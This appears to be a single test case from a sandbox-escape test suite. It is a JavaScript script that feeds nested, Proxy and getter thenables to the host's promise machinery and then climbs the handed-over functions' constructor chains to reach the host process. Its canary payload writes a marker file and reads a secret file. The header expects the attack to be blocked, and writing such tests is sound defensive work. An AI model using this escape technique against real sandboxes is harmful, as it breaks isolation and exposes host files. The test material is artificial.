// attack: return thenables from the script so the engine calls them with the resolving functions of the promise the RUNTIME awaits: a thenable that resolves with another thenable (three deep), a Proxy thenable (get trap on `then`), a `then` getter, a then that calls resolve twice and reject with a thenable; every function handed over is climbed
// source: vm2 ATTACKS.md Category 7 (thenables and host resolving functions); CVE-2026-22709 (vm2 Promise then/catch callback sanitisation); Endo SES docs 'Limitations' (re-entrancy via thenables)
// needs: none
// category: escape
// expect: blocked - resolving functions are engine-made in the shared realm (tamed constructors); the result is plain data
const ID = '110-thenable-returned';
// canary payload: does something only when handed the real host `process` / node:fs
const pwnFs = (nfs) => {
  nfs.mkdirSync('/tmp/sesame-canary', { recursive: true });
  nfs.writeFileSync('/tmp/sesame-canary/' + ID, 'escaped by ' + ID);
  return nfs.readFileSync('/tmp/sesame-secret/secret.txt', 'utf8');
};
const pwn = (proc) => pwnFs(typeof proc.getBuiltinModule === 'function' ? proc.getBuiltinModule('fs') : proc.mainModule.require('fs'));
const msg = (e) => { try { return String((e && e.message) || e).slice(0, 120); } catch (_) { return 'unprintable'; } };
const tried = [];
let untold = 0;
const note = (s) => { if (tried.length < 90) tried.push(s); else untold++; };
const attempt = async (label, thunk) => {
  try { const s = await thunk(); if (s) return { escaped: label, secret: s }; note(label + ': nothing'); }
  catch (e) { note(label + ': ' + msg(e)); }
  return undefined;
};
// every road from a value to a Function constructor: its own constructor chain and its prototypes'
const met = new Set();
const climb = async (label, v) => {
  const roads = [];
  const add = (how, f) => { if (typeof f === 'function' && !met.has(f)) { met.add(f); roads.push([how, f]); } };
  let o = v;
  for (let i = 0; i < 5 && o !== null && (typeof o === 'object' || typeof o === 'function'); i++) {
    try { add('.constructor', o.constructor); } catch (e) {}
    try { add('.constructor.constructor', o.constructor.constructor); } catch (e) {}
    try { o = Object.getPrototypeOf(o); } catch (e) { break; }
  }
  for (const [how, F] of roads) {
    const r = await attempt(label + how, () => pwn(F('return process')()));
    if (r) return r;
  }
  return undefined;
};
const climbAll = async (pairs) => {
  // a snapshot: climbing may run the attack's own traps, which record more values
  for (const [label, v] of pairs.slice(0, 2500)) { const r = await climb(label, v); if (r) return r; }
  return undefined;
};
const seen = [];
const grab = (label, fns) => { for (let i = 0; i < fns.length; i++) seen.push([label + ' arg' + i, fns[i]]); };
const level3 = { then(resolve, reject) { grab('level3', arguments); seen.push(['level3 this', this]); resolve({ blocked: 'pending' }); } };
const level2 = new Proxy({}, { get(t, k, r) { seen.push(['proxy get ' + String(k) + ' receiver', r]); if (k === 'then') return function (res, rej) { grab('proxy then', arguments); res(level3); }; return undefined; } });
const level1 = { get then() { seen.push(['then getter this', this]); return (res, rej) => { grab('getter then', [res, rej]); res(level2); res('second resolve ignored'); rej({ then() { note('reject with thenable: then called!'); } }); }; } };
// the finale: after the runtime has awaited the chain, climb everything it handed over
return {
  then(resolve, reject) {
    grab('outer', arguments);
    Promise.resolve(level1).then(async () => {
      for (const [label, f] of seen.slice(0, 400)) { const r = await climb(label, f); if (r) return resolve(r); }
      resolve({ blocked: tried, untold, handedOver: seen.length });
    }, (e) => resolve({ blocked: tried, error: msg(e) }));
  },
};
